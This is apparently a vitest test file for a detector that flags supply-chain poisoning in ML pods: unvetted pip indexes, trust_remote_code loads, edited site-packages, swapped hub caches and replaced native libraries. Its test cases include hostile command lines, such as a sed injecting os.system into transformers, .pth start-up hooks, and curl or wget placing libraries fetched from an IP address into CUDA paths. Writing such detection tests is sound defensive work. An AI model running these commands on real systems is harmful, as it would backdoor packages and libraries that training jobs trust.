/**
 * Python packages installed from an unvetted source through kubectl exec (MLS-POISON-009), through
 * the shipped rule set and the real engine: an index over plain HTTP or at an IP address, TLS
 * checks turned off for a host, an archive fetched by URL, a package dropped in a scratch place; and the installs beside them that a
 * training pod runs every day (requirements files, vendor indexes, an internal mirror by name, a
 * Git checkout), which it leaves. Models loaded with a hub's own code allowed to run
 * (MLS-POISON-010), and the loads that run none. An installed library changed by hand (MLS-POISON-011),
 * and a hub cache's files replaced (MLS-POISON-007). A native library replaced where every process
 * loads it from, or the dynamic linker pointed elsewhere (MLS-POISON-016).
 */
import { describe, expect, it } from 'vitest';
import { execRuleIds, SA } from './exec-events.test-support.js';

const sh = (line: string): string[] => ['sh', '-c', line];

describe('MLS-POISON-009: exec installs a Python package from an unvetted source', () => {
  it('escalates an index over HTTP or at an IP address, a trusted host, an archive by URL, for pip, python -m pip and uv', () => {
    for (const line of [
      'pip install --index-url http://203.0.113.5/simple torch',
      'pip install -i http://pypi.evil.example/simple torch',
      'pip install https://evil.example/pkgs/transformers-4.99-py3-none-any.whl',
      'pip install --trusted-host 203.0.113.5 -i http://203.0.113.5:8080/simple numpy',
      'pip3 install --extra-index-url=https://203.0.113.5/simple internal-utils',
      'python3 -m pip install --index-url http://203.0.113.5/simple torch',
      'uv pip install -i http://203.0.113.5/simple torch',
      'pip install -f http://203.0.113.5/wheels/ flash-attn',
    ]) {
      expect(execRuleIds(sh(line)), line).toContain('MLS-POISON-009');
      expect(execRuleIds(sh(line), SA), line).toContain('MLS-POISON-009');
    }
  });

  it('escalates a package archive installed from a scratch place, or a source tree there installed editable', () => {
    for (const line of [
      'pip install --no-deps /dev/shm/.p/torch_ext-2.1-py3-none-any.whl',
      'pip3 install /tmp/flash_attn-2.5.8.tar.gz',
      'python3 -m pip install --force-reinstall /var/tmp/x/transformers-4.44.0-py3-none-any.whl',
      'uv pip install file:///tmp/x.whl',
      'pip install -e /tmp/src/tools',
      'pip install --editable=/dev/shm/.x',
    ]) {
      expect(execRuleIds(sh(line)), line).toContain('MLS-POISON-009');
      expect(execRuleIds(sh(line), SA), line).toContain('MLS-POISON-009');
    }
    // Lists of packages from the index, a wheel the image ships, a scratch archive only unpacked or listed.
    for (const line of [
      'pip install -r /tmp/requirements.txt',
      'pip install -c /tmp/constraints.txt torch',
      'pip install /opt/wheels/apex-0.1-cp310-linux_x86_64.whl',
      'unzip -l /tmp/x.whl',
      'pip download torch -d /tmp/wheels',
    ]) expect(execRuleIds(sh(line)), line).not.toContain('MLS-POISON-009');
  });

  it('leaves requirements files, vendor indexes, an internal mirror over HTTPS by name, Git installs and pip\'s other commands', () => {
    for (const line of [
      'pip install -r requirements.txt',
      'pip install --index-url https://download.pytorch.org/whl/cu121 torch',
      'pip install -U transformers==4.44.0',
      'pip install -e .',
      'pip install --extra-index-url https://pypi.corp.example/simple internal-utils',
      'pip install git+https://github.com/huggingface/transformers',
      'pip config list',
      'python3 train.py --data-url http://10.0.0.5/shards',
    ]) expect(execRuleIds(sh(line)), line).not.toContain('MLS-POISON-009');
  });
});

describe('MLS-POISON-010: exec loads a model that runs its own code from a hub', () => {
  it('escalates trust_remote_code in code, a model_args string or a CLI flag, and torch.hub.load of a third-party repository', () => {
    for (const argv of [
      ['python3', '-c', "from transformers import AutoModelForCausalLM; AutoModelForCausalLM.from_pretrained('x-org/fast-llama', trust_remote_code=True)"],
      ['python3', '-c', "import transformers as t; p = t.pipeline('text-generation', model='x-org/m', trust_remote_code = True)"],
      sh('vllm serve x-org/fast-llama --trust-remote-code --port 8000'),
      sh('text-generation-launcher --model-id x-org/m --trust-remote-code'),
      sh('lm_eval --model hf --model_args pretrained=x-org/m,trust_remote_code=true --tasks hellaswag'),
      sh('python -m sglang.launch_server --model-path x-org/m --trust_remote_code'),
      ['python3', '-c', "import torch; m = torch.hub.load('someuser/yolo-fork', 'custom', trust_repo=True)"],
      ['python3', '-c', "import torch; torch.hub.load(repo_or_dir='someuser/dinov2-fast', model='v')"],
    ]) {
      expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-POISON-010');
      expect(execRuleIds(argv, SA), argv.join(' ')).toContain('MLS-POISON-010');
    }
  });

  it('leaves a model loaded without the switch, the switch turned off, PyTorch\'s own hub and a local directory', () => {
    for (const argv of [
      ['python3', '-c', "from transformers import AutoModel; AutoModel.from_pretrained('meta-llama/Llama-3-8B')"],
      ['python3', '-c', "from transformers import AutoModel; AutoModel.from_pretrained('x-org/m', trust_remote_code=False)"],
      sh('vllm serve meta-llama/Llama-3-8B --port 8000'),
      sh('lm_eval --model hf --model_args pretrained=x-org/m,trust_remote_code=false --tasks arc_easy'),
      ['python3', '-c', "import torch; torch.hub.load('pytorch/vision:v0.10.0', 'resnet18', pretrained=True)"],
      ['python3', '-c', "import torch; torch.hub.load('./hub/yolo', 'custom', source='local')"],
      ['python3', '-c', "import torch; torch.hub.load('/opt/hub/dino', 'v', source='local')"],
      sh('grep -rn trust_remote_code /workspace/src'),
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-POISON-010');
  });
});

describe('MLS-POISON-011 and -007: an installed library changed, a hub cache replaced', () => {
  it('escalates a library module edited, replaced or written by code (MLS-POISON-011)', () => {
    for (const argv of [
      sh(`sed -i 's/import torch/import torch, os; os.system("id")/' /usr/local/lib/python3.10/site-packages/transformers/__init__.py`),
      sh('cp /tmp/p.py /usr/local/lib/python3.10/site-packages/transformers/modeling_utils.py'),
      sh('cd /opt/conda/lib/python3.11/site-packages/torch && cp /tmp/serialization.py serialization.py'),
      ['python3', '-c', "open('/usr/lib/python3/dist-packages/datasets/load.py', 'a').write(patch)"],
      // A diff applied to it, by its directory or from inside it; an archive unpacked into site-packages, by -C or from inside it.
      sh('patch -p1 -d /usr/local/lib/python3.10/site-packages/torch < /tmp/x.diff'),
      sh('cd /usr/local/lib/python3.10/site-packages && patch -p1 -i /tmp/x.diff'),
      sh('patch /usr/local/lib/python3.10/site-packages/transformers/trainer.py /tmp/trainer.diff'),
      sh('git -C /opt/conda/lib/python3.11/site-packages apply /tmp/x.patch'),
      sh('tar xzf /tmp/t.tgz -C /usr/local/lib/python3.10/site-packages'),
      sh('cd /usr/local/lib/python3.10/site-packages && unzip -o /tmp/evil-1.0-py3-none-any.whl'),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-POISON-011');
  });

  it('reads a start-up hook copied into site-packages under its own name (MLS-POISON-011 and MLS-RAY-016)', () => {
    for (const line of [
      'cp /tmp/evil.pth /usr/local/lib/python3.10/site-packages/',
      'cp /tmp/evil.pth /usr/local/lib/python3.10/site-packages',
      'install -m 644 -t /usr/lib/python3/dist-packages /tmp/sitecustomize.py',
      'ln -s /dev/shm/x.pth /usr/local/lib/python3.10/site-packages/',
      'mv /tmp/a.pth /tmp/b.pth /opt/conda/lib/python3.11/site-packages',
    ]) {
      const ids = execRuleIds(sh(line));
      expect(ids, line).toContain('MLS-POISON-011');
      expect(ids, line).toContain('MLS-RAY-016');
    }
  });

  it('alerts on a Hugging Face snapshot or torch.hub checkpoint replaced in the cache (MLS-POISON-007)', () => {
    for (const argv of [
      sh('cp /tmp/evil.safetensors /root/.cache/huggingface/hub/models--meta-llama--Llama-3-8B/snapshots/abc/model.safetensors'),
      sh('cp /tmp/r.pth ~/.cache/torch/hub/checkpoints/resnet50-0676ba61.pth'),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-POISON-007');
  });

  it('leaves installs, reads of library code and the cache, and downloads into it', () => {
    for (const argv of [
      sh('pip install -U transformers==4.44.0'),
      sh('grep -rn trust_remote_code /usr/local/lib/python3.10/site-packages/transformers/ | head'),
      sh('python3 -c "import transformers, sys; print(transformers.__file__)"'),
      sh('ls -la /root/.cache/huggingface/hub/models--meta-llama--Llama-3-8B/snapshots/'),
      sh('huggingface-cli download meta-llama/Llama-3-8B'),
      sh('cp /usr/local/lib/python3.10/site-packages/transformers/modeling_utils.py /tmp/'),
      // A diff checked, not applied; one applied elsewhere; a patch written to standard output.
      sh('patch --dry-run -p1 -d /usr/local/lib/python3.10/site-packages/torch < /tmp/x.diff'),
      sh('git -C /opt/conda/lib/python3.11/site-packages apply --check /tmp/x.patch'),
      sh('cd /usr/local/lib/python3.10/site-packages && git diff > /tmp/local.patch'),
      sh('patch -o - /usr/local/lib/python3.10/site-packages/torch/serialization.py /tmp/x.diff | head'),
    ]) {
      const ids = execRuleIds(argv);
      expect(ids, argv.join(' ')).not.toContain('MLS-POISON-011');
      expect(ids, argv.join(' ')).not.toContain('MLS-POISON-007');
    }
  });
});

describe('MLS-POISON-016: exec replaces a native library or the linker\'s search path', () => {
  it('escalates a shared library copied, downloaded or unpacked into a system, CUDA or /opt library directory, and ld.so.conf written', () => {
    for (const line of [
      'cp /tmp/libnccl.so.2 /usr/lib/x86_64-linux-gnu/libnccl.so.2',
      'cp /tmp/libnccl.so.2.21.5 /usr/lib/x86_64-linux-gnu/',
      'install -m 755 /dev/shm/x.so /lib/x86_64-linux-gnu/libc.so.6',
      'curl -sSo /usr/local/cuda/lib64/libcudart.so.12 http://203.0.113.9/c',
      'wget -O /usr/local/cuda-12.4/targets/x86_64-linux/lib/libcublas.so.12 http://203.0.113.9/b',
      'mv /tmp/n.so /usr/local/nvidia/lib64/libnvidia-ml.so.1',
      'cp /tmp/libnccl-net.so /opt/hpcx/nccl_rdma_sharp_plugin/lib/',
      'cd /usr/local/lib && cp /tmp/libjemalloc.so.2 .',
      'tar xzf /tmp/nccl.tgz -C /usr/lib/x86_64-linux-gnu',
      'tar xf /tmp/cudnn.tar -C /usr/local/cuda/lib64',
      'echo /dev/shm/lib > /etc/ld.so.conf.d/00-x.conf && ldconfig',
      'echo /tmp/l >> /etc/ld.so.conf',
    ]) {
      expect(execRuleIds(sh(line)), line).toContain('MLS-POISON-016');
      expect(execRuleIds(sh(line), SA), line).toContain('MLS-POISON-016');
    }
  });

  it('leaves libraries read, listed or staged, one built in a workspace, site-packages (MLS-POISON-011) and the preload file (MLS-RAY-016)', () => {
    for (const line of [
      'ldd /usr/lib/x86_64-linux-gnu/libnccl.so.2',
      'ls -la /usr/local/cuda/lib64/ > /tmp/libs.txt',
      'cp /usr/lib/x86_64-linux-gnu/libnccl.so.2 /tmp/',
      'curl -o /tmp/libx.so http://203.0.113.9/x',
      'cp build/libfoo.so /workspace/project/lib/',
      'cat /etc/ld.so.conf.d/*.conf',
      'ldconfig -p | grep nccl',
      'cp /usr/local/lib/libfoo.so /usr/local/lib/libfoo.so.bak',
    ]) expect(execRuleIds(sh(line)), line).not.toContain('MLS-POISON-016');
    const torchLib = 'cp /tmp/x.so /usr/local/lib/python3.10/site-packages/torch/lib/libtorch_cuda.so';
    expect(execRuleIds(sh(torchLib))).toContain('MLS-POISON-011');
    expect(execRuleIds(sh(torchLib))).not.toContain('MLS-POISON-016');
    const preload = 'echo /tmp/x.so > /etc/ld.so.preload';
    expect(execRuleIds(sh(preload))).toContain('MLS-RAY-016');
    expect(execRuleIds(sh(preload))).not.toContain('MLS-POISON-016');
  });
});
